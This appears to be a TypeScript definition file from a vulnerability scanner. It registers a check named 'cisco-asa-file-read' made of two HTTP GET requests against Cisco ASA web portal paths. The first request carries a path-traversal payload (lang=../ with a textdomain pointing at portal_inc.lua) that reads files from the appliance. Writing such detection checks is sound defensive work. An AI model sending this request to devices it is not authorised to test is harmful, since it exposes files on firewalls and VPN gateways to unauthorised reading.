import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'cisco-asa-file-read',
    get(
      '/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../',
    ),
    get('/+CSCOE+/logon.html'),
  ),
]
